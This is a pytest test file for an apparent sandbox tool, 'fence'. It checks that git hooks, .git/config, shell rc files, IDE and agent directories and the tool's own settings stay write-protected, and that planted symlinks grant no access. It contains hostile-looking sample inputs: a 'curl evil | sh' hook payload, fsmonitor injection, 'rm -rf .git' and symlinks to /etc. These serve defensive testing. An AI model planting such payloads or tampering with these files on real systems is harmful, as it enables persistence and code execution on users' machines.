"""Always-protected paths (SECURITY-RULES 7) and symlinks planted in the working directory (8)."""

import json
import os
import uuid
from pathlib import Path

import pytest

from conftest import STARTED, assert_started, fmt, snapshot, ok, err

CWD_WRITABLE = {"filesystem": {"allowWrite": ["."]}}

PROTECTED_FILES = [".gitconfig", ".gitmodules", ".bashrc", ".bash_profile", ".zshrc",
                   ".zprofile", ".profile", ".ripgreprc", ".mcp.json"]
PROTECTED_DIRS = [".vscode", ".idea", ".claude/commands", ".claude/agents"]


def test_existing_protected_files_in_cwd(fence, project):
    before = snapshot(project / ".git")
    bashrc = (project / ".bashrc").read_text()
    cp = fence.py(
        "attempt('hook-write', write, '.git/hooks/pre-commit', 'curl evil | sh\\n', 'a')\n"
        "attempt('hook-create', write, '.git/hooks/post-checkout')\n"
        "attempt('hook-chmod', os.chmod, '.git/hooks/pre-commit', 0o777)\n"
        "attempt('git-config', write, '.git/config', '[core]\\n\\tfsmonitor = evil\\n', 'a')\n"
        "attempt('bashrc', write, '.bashrc', 'evil\\n', 'a')\n"
        "attempt('bashrc-trunc', lambda: os.close(os.open('.bashrc', os.O_WRONLY | os.O_TRUNC)))\n"
        "attempt('control', write, 'src/main.c', '// ok\\n', 'a')\n",
        config=CWD_WRITABLE)
    assert ok(cp, "control"), "control: the project must be writable" + fmt(cp)
    for name in ("hook-write", "hook-create", "hook-chmod", "git-config", "bashrc", "bashrc-trunc"):
        assert err(cp, name), f"{name} should have failed" + fmt(cp)
    assert snapshot(project / ".git") == before, fmt(cp)
    assert (project / ".bashrc").read_text() == bashrc


def test_protected_paths_cannot_be_moved_via_parent(fence, project):
    before = snapshot(project)
    cp = fence.py(
        "attempt('mv-git', os.rename, '.git', 'x')\n"
        "attempt('mv-hooks', os.rename, '.git/hooks', '.git/h2')\n"
        "attempt('mv-config', os.rename, '.git/config', '.git/config.bak')\n"
        "attempt('mv-bashrc', os.rename, '.bashrc', 'bashrc.bak')\n"
        "attempt('rm-hook', os.unlink, '.git/hooks/pre-commit')\n"
        "attempt('rmdir-hooks', os.rmdir, '.git/hooks')\n"
        "os.mkdir('tmp-replacement')\n"
        "attempt('replace-git', os.rename, 'tmp-replacement', '.git')\n"
        "os.rmdir('tmp-replacement') if os.path.isdir('tmp-replacement') else None\n",
        config=CWD_WRITABLE)
    for name in ("mv-git", "mv-hooks", "mv-config", "mv-bashrc", "rm-hook", "rmdir-hooks",
                 "replace-git"):
        assert err(cp, name), f"{name} should have failed" + fmt(cp)
    assert snapshot(project) == before, fmt(cp)
    assert not (project / "x").exists()


def test_rm_rf_git_fails(fence, project):
    before = snapshot(project / ".git")
    cp = fence.sh(f"echo {STARTED}; rm -rf .git", config=CWD_WRITABLE)
    assert_started(cp)
    assert (project / ".git" / "hooks" / "pre-commit").exists(), fmt(cp)
    assert (project / ".git" / "config").exists(), fmt(cp)
    assert snapshot(project / ".git")["hooks"] == before["hooks"]


@pytest.mark.parametrize("name", PROTECTED_FILES)
def test_missing_protected_file_in_cwd_cannot_be_created(fence, work, name):
    cp = fence.py(
        f"attempt('create', write, {name!r}, 'evil\\n')\n"
        f"attempt('symlink', os.symlink, '/nonexistent', {name!r})\n"
        f"attempt('mkfifo', os.mkfifo, {name!r})\n"
        "attempt('control', write, 'regular.txt')\n",
        config=CWD_WRITABLE)
    assert ok(cp, "control"), fmt(cp)
    assert err(cp, "create") and err(cp, "symlink") and err(cp, "mkfifo"), fmt(cp)
    assert not os.path.lexists(work / name), fmt(cp)


@pytest.mark.parametrize("name", PROTECTED_DIRS)
def test_missing_protected_dir_in_cwd_cannot_be_created(fence, work, name):
    cp = fence.py(
        f"try:\n    os.makedirs({name!r})\nexcept OSError as e:\n    print('makedirs:', e)\n"
        f"attempt('create', write, {name!r} + '/evil.md', 'evil\\n')\n"
        "attempt('control', write, 'regular.txt')\n",
        config=CWD_WRITABLE)
    assert ok(cp, "control"), fmt(cp)
    assert err(cp, "create"), fmt(cp)
    assert not os.path.lexists(work / name), fmt(cp)


def test_existing_protected_dirs_in_cwd(fence, work):
    for d in PROTECTED_DIRS:
        (work / d).mkdir(parents=True)
        (work / d / "existing").write_text("original\n")
    before = snapshot(work)
    code = ""
    for d in PROTECTED_DIRS:
        code += (f"attempt('write {d}', write, {d!r} + '/existing', 'x', 'a')\n"
                 f"attempt('create {d}', write, {d!r} + '/new')\n"
                 f"attempt('rename {d}', os.rename, {d!r}, {d!r} + '.old')\n")
    code += "attempt('rename-claude', os.rename, '.claude', 'claude.old')\n"
    cp = fence.py(code, config=CWD_WRITABLE)
    for d in PROTECTED_DIRS:
        for op in ("write", "create", "rename"):
            assert err(cp, f"{op} {d}"), f"{op} {d} should have failed" + fmt(cp)
    assert err(cp, "rename-claude"), fmt(cp)
    assert snapshot(work) == before, fmt(cp)


def test_missing_git_commondir_cannot_be_created(fence, project):
    cp = fence.py("attempt('create', write, '.git/commondir', '/tmp/evil\\n')\n"
                  "attempt('control', write, 'src/x.c')\n", config=CWD_WRITABLE)
    assert ok(cp, "control"), fmt(cp)
    assert err(cp, "create"), fmt(cp)
    assert not (project / ".git" / "commondir").exists()


def test_existing_git_commondir_protected(fence, project):
    (project / ".git" / "commondir").write_text("../real\n")
    cp = fence.py("attempt('write', write, '.git/commondir', '/tmp/evil\\n')\n", config=CWD_WRITABLE)
    assert err(cp, "write"), fmt(cp)
    assert (project / ".git" / "commondir").read_text() == "../real\n"


def test_allow_git_config(fence, project):
    cp = fence.py(
        "attempt('git-config', write, '.git/config', '[user]\\n\\tname = t\\n', 'a')\n"
        "attempt('hook', write, '.git/hooks/pre-commit', 'x', 'a')\n",
        config={"filesystem": {"allowWrite": ["."], "allowGitConfig": True}})
    assert ok(cp, "git-config"), "allowGitConfig must make .git/config writable" + fmt(cp)
    assert "name = t" in (project / ".git" / "config").read_text()
    assert err(cp, "hook"), "allowGitConfig must not unprotect hooks" + fmt(cp)


def test_configured_core_hooks_path_relative(fence, project):
    hooks = project / "myhooks"
    hooks.mkdir()
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (project / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n"
                                              "\thooksPath = myhooks\n")
    before = snapshot(hooks)
    cp = fence.py(
        "attempt('write', write, 'myhooks/pre-commit', 'evil\\n', 'a')\n"
        "attempt('create', write, 'myhooks/post-merge')\n"
        "attempt('rename', os.rename, 'myhooks', 'hooks-old')\n"
        "attempt('control', write, 'src/x.c')\n",
        config=CWD_WRITABLE)
    assert ok(cp, "control"), fmt(cp)
    assert err(cp, "write") and err(cp, "create") and err(cp, "rename"), fmt(cp)
    assert snapshot(hooks) == before


def test_configured_core_hooks_path_absolute(fence, project, tmp_path):
    hooks = tmp_path / "abs-hooks"
    hooks.mkdir()
    (hooks / "pre-push").write_text("#!/bin/sh\nexit 0\n")
    other = tmp_path / "other-writable"
    other.mkdir()
    (project / ".git" / "config").write_text(f"[core]\n\thooksPath = {hooks}\n")
    before = snapshot(hooks)
    cp = fence.py(
        f"attempt('write', write, {str(hooks / 'pre-push')!r}, 'evil\\n', 'a')\n"
        f"attempt('create', write, {str(hooks / 'post-merge')!r})\n"
        f"attempt('control', write, {str(other / 'f')!r})\n",
        config={"filesystem": {"allowWrite": [".", str(hooks), str(other)]}})
    assert ok(cp, "control"), fmt(cp)
    assert err(cp, "write") and err(cp, "create"), fmt(cp)
    assert snapshot(hooks) == before


# ---- $HOME ------------------------------------------------------------------------------------

def test_rc_files_in_home(fence, home, work):
    (home / ".bashrc").write_text("# home bashrc\n")
    (home / ".gitconfig").write_text("[user]\n\tname = me\n")
    before = snapshot(home)
    code = ("attempt('bashrc', write, os.path.expanduser('~/.bashrc'), 'evil\\n', 'a')\n"
            "attempt('gitconfig', write, os.path.expanduser('~/.gitconfig'), 'evil\\n', 'a')\n"
            "attempt('mv-bashrc', os.rename, os.path.expanduser('~/.bashrc'), os.path.expanduser('~/b'))\n")
    code += "attempt('control', write, os.path.expanduser('~/notes.txt'))\n"
    cp = fence.py(code, config={"filesystem": {"allowWrite": ["~"]}})
    assert ok(cp, "control"), "control: HOME must be writable" + fmt(cp)
    for name in ("bashrc", "gitconfig", "mv-bashrc"):
        assert err(cp, name), f"{name} should have failed" + fmt(cp)
    after = snapshot(home)
    after.pop("notes.txt", None)
    assert after == before, fmt(cp)


def test_missing_rc_files_in_home_cannot_be_created(fence, home, work):
    before = snapshot(home)
    code = ""
    for name in (".zshrc", ".profile", ".bash_profile", ".zprofile", ".mcp.json"):
        code += f"attempt('create {name}', write, os.path.expanduser('~/{name}'))\n"
    code += "attempt('control', write, os.path.expanduser('~/notes.txt'))\n"
    cp = fence.py(code, config={"filesystem": {"allowWrite": ["~"]}})
    assert ok(cp, "control"), "control: HOME must be writable" + fmt(cp)
    for name in (".zshrc", ".profile", ".bash_profile", ".zprofile", ".mcp.json"):
        assert err(cp, f"create {name}"), f"create {name} should have failed" + fmt(cp)
    after = snapshot(home)
    after.pop("notes.txt", None)
    assert after == before, fmt(cp)


def test_other_shells_startup_files_in_home_cannot_be_written(fence, home, work):
    """--shell user accepts fish and ksh: their startup files are protected like bash's."""
    (home / ".config" / "fish").mkdir(parents=True)
    (home / ".config" / "fish" / "config.fish").write_text("# fish\n")
    before = snapshot(home)
    code = ("attempt('fish', write, os.path.expanduser('~/.config/fish/config.fish'), 'x', 'a')\n"
            "attempt('fish conf.d', write, os.path.expanduser('~/.config/fish/conf.d/x.fish'))\n"
            "attempt('kshrc', write, os.path.expanduser('~/.kshrc'))\n"
            "attempt('control', write, os.path.expanduser('~/.config/other.conf'))\n")
    cp = fence.py(code, config={"filesystem": {"allowWrite": ["~/.config", "~"]}})
    assert ok(cp, "control"), fmt(cp)
    for name in ("fish", "fish conf.d", "kshrc"):
        assert err(cp, name), f"{name} should have failed" + fmt(cp)
    after = snapshot(home)
    after.pop(".config/other.conf", None)
    assert after == before, fmt(cp)


def test_home_protected_when_home_is_cwd(fence, home):
    cp = fence.py("attempt('zshrc', write, '.zshrc')\nattempt('control', write, 'f')\n",
                  config=CWD_WRITABLE, cwd=home)
    assert ok(cp, "control"), fmt(cp)
    assert err(cp, "zshrc"), fmt(cp)
    assert not (home / ".zshrc").exists()


# ---- fence's own config files ----------------------------------------------------------------

def test_settings_file_not_writable_even_in_allow_write(fence, work):
    settings = work / "fence-settings.json"
    fence.write_config(CWD_WRITABLE, where=settings)
    original = settings.read_text()
    cp = fence.py(
        "attempt('write', write, 'fence-settings.json', '{\"filesystem\":{\"allowWrite\":[\"/\"]}}')\n"
        "attempt('unlink', os.unlink, 'fence-settings.json')\n"
        "open('evil.json', 'w').write('{}')\n"
        "attempt('replace', os.rename, 'evil.json', 'fence-settings.json')\n"
        "attempt('chmod', os.chmod, 'fence-settings.json', 0o666)\n",
        config=settings)
    for name in ("write", "unlink", "replace", "chmod"):
        assert err(cp, name), f"{name} should have failed" + fmt(cp)
    assert settings.read_text() == original


def test_home_fence_json_not_writable(fence, home):
    cfg = home / ".fence.json"
    cfg.write_text(json.dumps({"filesystem": {"allowWrite": ["~"]}}))
    original = cfg.read_text()
    cp = fence.py(
        "p = os.path.expanduser('~/.fence.json')\n"
        "attempt('write', write, p, '{}')\n"
        "attempt('unlink', os.unlink, p)\n"
        "attempt('control', write, os.path.expanduser('~/notes'))\n")
    assert ok(cp, "control"), "~/.fence.json (allowWrite ~) was not used" + fmt(cp)
    assert err(cp, "write") and err(cp, "unlink"), fmt(cp)
    assert cfg.read_text() == original


def test_missing_home_fence_json_cannot_be_created(fence, home, tmp_path):
    cp = fence.py(
        "attempt('create', write, os.path.expanduser('~/.fence.json'), '{}')\n"
        "attempt('control', write, os.path.expanduser('~/notes'))\n",
        config={"filesystem": {"allowWrite": ["~"]}})
    assert ok(cp, "control"), fmt(cp)
    assert err(cp, "create"), fmt(cp)
    assert not (home / ".fence.json").exists()


# ---- symlinks planted in the working directory (SECURITY-RULES 8) ---------------------------

def _plant(fence, script):
    """Phase 1: a sandboxed run with a writable cwd plants something."""
    cp = fence.sh(script, config=CWD_WRITABLE)
    assert cp.returncode == 0, "planting run failed" + fmt(cp)


def test_planted_symlink_to_outside_dir_gives_no_write_access(fence, work, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "existing").write_text("original\n")
    (work / "out").mkdir()
    _plant(fence, f"rm -rf out && ln -s '{victim}' out")
    assert (work / "out").is_symlink()
    before = snapshot(victim)
    cp = fence.py(
        "attempt('via-link', write, 'out/new')\n"
        "attempt('via-link-existing', write, 'out/existing', 'x', 'a')\n"
        f"attempt('direct', write, {str(victim / 'direct')!r})\n",
        config={"filesystem": {"allowWrite": ["./out"]}})
    assert_started(cp)
    assert snapshot(victim) == before, "write reached the symlink's outside target" + fmt(cp)


def test_planted_symlink_to_etc_gives_no_write_access(fence, work):
    name = f"fence-itest-{uuid.uuid4().hex}"
    (work / "out").symlink_to("/etc")
    try:
        cp = fence.py(
            f"attempt('via-link', lambda: os.close(os.open('out/{name}', os.O_WRONLY | os.O_CREAT, 0o644)))\n"
            f"attempt('direct', lambda: os.close(os.open('/etc/{name}', os.O_WRONLY | os.O_CREAT, 0o644)))\n",
            config={"filesystem": {"allowWrite": ["./out"]}})
        assert_started(cp)
        assert not os.path.exists(f"/etc/{name}"), fmt(cp)
        assert not ok(cp, "via-link") and not ok(cp, "direct"), fmt(cp)
    finally:
        if os.path.exists(f"/etc/{name}"):
            os.unlink(f"/etc/{name}")


def test_deny_write_through_symlinked_component(fence, work):
    real = work / "real"
    real.mkdir()
    (real / "secret").write_text("original\n")
    (work / "link").symlink_to("real")
    cp = fence.py(
        "attempt('real-path', write, 'real/secret', 'x', 'a')\n"
        "attempt('link-path', write, 'link/secret', 'x', 'a')\n"
        "attempt('control', write, 'real/other')\n",
        config={"filesystem": {"allowWrite": ["."], "denyWrite": ["link/secret"]}})
    assert ok(cp, "control"), fmt(cp)
    assert err(cp, "real-path") and err(cp, "link-path"), fmt(cp)
    assert (real / "secret").read_text() == "original\n"


def test_planted_dangling_symlink_on_protected_name(fence, work, tmp_path):
    victim = tmp_path / "victim"
    victim.mkdir()
    target = victim / "zshrc-target"
    # A cloned repository (or anything on the host) left .zshrc/.mcp.json as symlinks to an
    # outside target that does not exist yet; fence must not create it while protecting them.
    (work / ".zshrc").symlink_to(target)
    (work / ".mcp.json").symlink_to(target)
    cp = fence.py("attempt('through-link', write, '.zshrc', 'evil\\n')\n", config=CWD_WRITABLE)
    assert_started(cp)
    assert not target.exists(), "fence (or the command) created the planted symlink's target" + fmt(cp)
    assert sorted(os.listdir(victim)) == []


def test_planted_symlink_replacing_git_hooks(fence, project, tmp_path):
    victim = tmp_path / "victim-hooks"
    victim.mkdir()
    (victim / "pre-commit").write_text("original\n")
    # simulate a repository whose .git/hooks is a symlink to somewhere outside
    import shutil
    shutil.rmtree(project / ".git" / "hooks")
    (project / ".git" / "hooks").symlink_to(victim)
    before = snapshot(victim)
    cp = fence.py(
        "attempt('hook', write, '.git/hooks/pre-commit', 'evil\\n', 'a')\n"
        "attempt('new-hook', write, '.git/hooks/post-merge')\n"
        "attempt('relink', lambda: (os.unlink('.git/hooks'), os.mkdir('.git/hooks')))\n"
        "attempt('hook-after-relink', write, '.git/hooks/pre-commit', 'evil\\n')\n",
        config=CWD_WRITABLE)
    assert_started(cp)
    assert snapshot(victim) == before, fmt(cp)
    hooks = project / ".git" / "hooks"
    assert hooks.is_symlink(), ".git/hooks (a symlink) was removed/replaced from inside" + fmt(cp)
    assert not (hooks.is_dir() and not hooks.is_symlink() and (hooks / "pre-commit").exists()), \
        "a hook was planted" + fmt(cp)
